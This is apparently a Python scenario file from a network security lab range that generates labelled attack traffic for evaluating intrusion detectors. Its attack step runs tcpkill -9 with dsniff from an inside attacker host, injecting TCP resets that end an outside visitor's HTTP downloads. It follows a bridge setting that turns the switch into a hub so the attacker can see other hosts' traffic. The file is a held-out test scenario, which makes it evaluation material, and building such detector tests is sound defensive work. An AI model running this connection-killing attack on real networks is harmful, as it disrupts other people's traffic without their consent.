"""tcpkill -9 against the downloads of a visitor from outside."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    visitor2 = net.outside("visitor2")
    web = net.web()
    # A hub in a switch's place: the attacker sees what others say, as on a mirror port or a WLAN.
    net.bridge.run("ip", "link", "set", "inside", "type", "bridge", "ageing_time", "0")
    net.everyday()
    net.loop(visitor2, f"curl -s -m 20 --limit-rate 20k -o /dev/null http://{web.ip}/report.pdf", 1.5)
    net.quiet(2)
    with net.attack(
        "rst-injection",
        by=attacker,
        victims=[web, visitor2],
        attacker_known=False,
        others={"sender": [attacker.mac], "claimed": [web, visitor2]},
        frames="tcp and tcp[tcpflags] & tcp-rst != 0",
        responses=f"tcp and host {visitor2.ip} and port 80",
    ):
        net.tool(attacker, *f"tcpkill -i eth0 -9 host {visitor2.ip} and tcp port 80".split(), seconds=8)
    net.quiet(2)


SCENARIO = Scenario(
    name="rst-injection-held-tcpkill9",
    about="tcpkill -9 ends the slow downloads of a visitor from outside.",
    detectors=("rst-injection",),
    tools={"tcpkill": "dsniff"},
    held_out=True,
    run=run,
    snap_octets=96,
)
